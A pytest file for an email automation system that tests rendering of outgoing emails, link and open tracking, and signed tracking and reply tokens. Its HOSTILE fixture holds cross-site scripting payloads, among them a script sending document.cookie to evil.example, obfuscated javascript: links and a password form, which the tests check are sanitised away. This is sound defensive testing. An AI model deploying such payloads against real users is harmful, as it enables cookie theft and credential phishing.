"""Outgoing email bodies (HTML part, text part, links, tracking) and the signed
tokens in their links (SPEC section 11)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from automations.domain.db import Database
from automations.domain.models import AppSetting
from automations.engagement.outgoing import (
    MAX_NESTING,
    BodyTooComplex,
    Link,
    Tracking,
    looks_like_html,
    render_email,
)
from automations.engagement.tokens import (
    TokenData,
    get_tracking_key,
    make_reply_token,
    make_token,
    read_reply_token,
    read_token,
    reply_address,
    step_from_reply_address,
)

KEY = "test-key-0123456789abcdefghijklmnopqrstuvwxyz"
PUBLIC = "https://go.example.com"

PLAIN = (
    "Hello Grace,\n\n"
    "See [our pricing](https://example.com/pricing?plan=team&seats=5) or read https://example.com/docs.\n"
    "Questions? [Write to us](mailto:help@example.com).\n\n"
    "-- \nThe team"
)

HOSTILE = (
    '<p onclick="steal()">Hi <b>there</b></p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src="https://img.example.com/logo.png" alt="Logo" onerror="alert(1)">'
    '<img src="data:image/png;base64,AAAA" alt="inline">'
    '<a href="javascript:alert(1)">free money</a> '
    '<a href="JaVaScRiPt&#58;alert(2)">more</a> '
    '<a href="https://example.com/offer" onmouseover="alert(3)">the offer</a>'
    "<style>body{background:url(https://evil.example/track)}</style>"
    '<iframe src="https://evil.example/frame">framed</iframe>'
    '<form action="https://evil.example/"><input name="password"></form>'
    "<ul><li>one</li><li>two</li></ul>"
)


def tracking(step_id: int = 42) -> Tracking:
    return Tracking.for_step(PUBLIC, KEY, step_id)


def hrefs(html: str) -> list[str]:
    return re.findall(r'<a [^>]*href="([^"]*)"', html)


# --- bodies ----------------------------------------------------------------------


def test_plain_text_with_markdown_links_becomes_html_and_text() -> None:
    rendered = render_email("Pricing", PLAIN, tracking=None)
    html, text = rendered.html, rendered.text
    assert "<title>Pricing</title>" in html
    assert '<a href="https://example.com/pricing?plan=team&amp;seats=5"' in html
    assert ">our pricing</a>" in html
    assert '<a href="https://example.com/docs"' in html  # a bare URL, without the full stop after it
    assert '<a href="mailto:help@example.com"' in html
    assert "<p>Hello Grace,</p>" in html
    assert "our pricing (https://example.com/pricing?plan=team&seats=5)" in text
    assert "read https://example.com/docs." in text
    assert "Write to us (help@example.com)" in text
    assert "[our pricing]" not in text and "<" not in text
    assert "\n-- \nThe team" in text  # the signature separator keeps its space
    assert rendered.links == [
        Link(0, "https://example.com/pricing?plan=team&seats=5", "our pricing"),
        Link(1, "https://example.com/docs", "https://example.com/docs"),
    ]


def test_plain_text_is_escaped_not_taken_for_html() -> None:
    body = "Tom & Jerry <3 you, write to <grace@example.com> if a < b"
    assert not looks_like_html(body)
    rendered = render_email("Hi", body, tracking=None)
    assert "Tom &amp; Jerry &lt;3 you, write to &lt;grace@example.com&gt; if a &lt; b" in rendered.html
    assert rendered.text == body + "\n"


def test_hostile_html_is_sanitised() -> None:
    assert looks_like_html(HOSTILE)
    rendered = render_email("Hi", HOSTILE, tracking=None)
    html = rendered.html.lower()
    for gone in (
        "<script",
        "document.cookie",
        "onerror",
        "onclick",
        "onmouseover",
        "javascript:",
        "data:image",
        "<style",
        "evil.example",
        "<iframe",
        "<form",
        "<input",
    ):
        assert gone not in html, gone
    assert '<img src="https://img.example.com/logo.png" alt="logo">' in html
    assert "<b>there</b>" in html and "<li>one</li>" in html
    assert hrefs(rendered.html) == ["https://example.com/offer"]
    assert rendered.links == [Link(0, "https://example.com/offer", "the offer")]
    text = rendered.text
    assert "the offer (https://example.com/offer)" in text
    assert "- one\n- two" in text
    assert "document" not in text and "alert" not in text


def test_html_body_gets_a_readable_text_part() -> None:
    body = (
        "<html><head><title>ignored</title><style>p{}</style></head><body>"
        "<h1>Welcome</h1><p>Dear Ann,<br>your <a href='https://example.com/a'>account</a> is ready.</p>"
        "<table><tr><td>Plan</td><td>Team</td></tr></table>"
        "<p><a href='https://example.com/b'>https://example.com/b</a></p></body></html>"
    )
    rendered = render_email("Welcome", body, tracking=None)
    assert rendered.text == (
        "Welcome\n\nDear Ann,\nyour account (https://example.com/a) is ready.\n\nPlan Team\n\nhttps://example.com/b\n"
    )
    assert "ignored" not in rendered.html


def test_links_are_tracked_only_with_a_public_url() -> None:
    untracked = render_email("Hi", PLAIN, tracking=None)
    assert "/t/" not in untracked.html and 'width="1"' not in untracked.html

    rendered = render_email("Hi", PLAIN, tracking=tracking(42))
    clicks = [h for h in hrefs(rendered.html) if h.startswith(f"{PUBLIC}/t/c/")]
    assert len(clicks) == 2
    for index, url in enumerate(clicks):
        assert read_token(KEY, url.rsplit("/", 1)[1]) == TokenData("c", 42, index)
    assert "mailto:help@example.com" in hrefs(rendered.html)  # not a web link: left alone
    assert not any(h.startswith("https://example.com") for h in hrefs(rendered.html))  # only click URLs
    [pixel] = re.findall(r'<img src="([^"]*)" width="1" height="1" alt="">', rendered.html)
    assert pixel.startswith(f"{PUBLIC}/t/o/") and read_token(KEY, pixel.rsplit("/", 1)[1]) == TokenData("o", 42)
    # The text part and the links list keep the original URLs.
    assert rendered.text == untracked.text
    assert rendered.links == untracked.links


def test_unsubscribe_url_of_a_step() -> None:
    url = tracking(7).unsubscribe_url()
    assert url.startswith(f"{PUBLIC}/t/u/")
    assert read_token(KEY, url.rsplit("/", 1)[1]) == TokenData("u", 7)


def test_deeply_nested_html_is_refused_quickly() -> None:
    with pytest.raises(BodyTooComplex, match="nests deeper"):
        render_email("Hi", "<div>" * 200_000 + "x", tracking=None)
    with pytest.raises(BodyTooComplex):
        render_email("Hi", "<blockquote/>" * 200_000, tracking=None)  # parsers take `<x/>` as open
    nested_tables = "<table><tr><td>" * 40 + "x" + "</td></tr></table>" * 40
    assert "x" in render_email("Hi", nested_tables + "<p>" * (MAX_NESTING * 2), tracking=None).text


# --- tokens ----------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "link"), [("o", None), ("c", 0), ("c", 17), ("u", None)])
def test_token_round_trip_and_short(kind: str, link: int | None) -> None:
    token = make_token(KEY, kind, 1_234_567, link)
    assert read_token(KEY, token) == TokenData(kind, 1_234_567, link)
    assert len(token) < 60 and re.fullmatch(r"[A-Za-z0-9_.-]+", token)


def test_tampered_truncated_and_foreign_tokens_are_refused() -> None:
    token = make_token(KEY, "c", 42, 3)
    payload, signature = token.split(".")
    flipped = signature[:-1] + ("A" if signature[-1] != "A" else "B")
    other_payload = make_token(KEY, "c", 43, 3).split(".")[0]
    for bad in (
        flipped,
        token[:-1],
        token[: len(token) // 2],
        payload,
        f"{other_payload}.{signature}",  # another step under this signature
        make_token("another-key", "c", 42, 3),
        "",
        ".",
        "not a token",
        "WyJjIiw0MiwzXQ.%%%",
    ):
        assert read_token(KEY, bad) is None, bad


def test_make_token_refuses_nonsense() -> None:
    with pytest.raises(ValueError):
        make_token(KEY, "x", 1)
    with pytest.raises(ValueError):
        make_token(KEY, "c", 1)  # a click names its link
    with pytest.raises(ValueError):
        make_token(KEY, "o", 1, 2)


@given(st.text(max_size=200))
def test_read_token_never_raises(garbage: str) -> None:
    assert read_token(KEY, garbage) is None


def test_reply_token_round_trip_case_insensitive() -> None:
    token = make_reply_token(KEY, 98765)
    assert re.fullmatch(r"[0-9a-z-]+", token)
    assert read_reply_token(KEY, token) == 98765
    assert read_reply_token(KEY, token.upper()) == 98765  # some servers change the case of the local part
    assert read_reply_token("another-key", token) is None
    assert read_reply_token(KEY, token[:-1] + ("0" if token[-1] != "0" else "1")) is None
    address = reply_address("team@sales.example", token)
    assert address == f"team+r-{token}@sales.example"
    assert step_from_reply_address(KEY, f"Team <{address.upper()}>") == 98765
    assert step_from_reply_address(KEY, "team@sales.example") is None


def test_tracking_key_is_generated_once_and_kept(sqlite_db: Database) -> None:
    with sqlite_db.session() as session:
        first = get_tracking_key(session)
    with sqlite_db.session() as session:
        assert get_tracking_key(session) == first
        stored = session.scalar(select(AppSetting.value).where(AppSetting.key == "tracking_key"))
    assert stored == first and len(first) >= 40
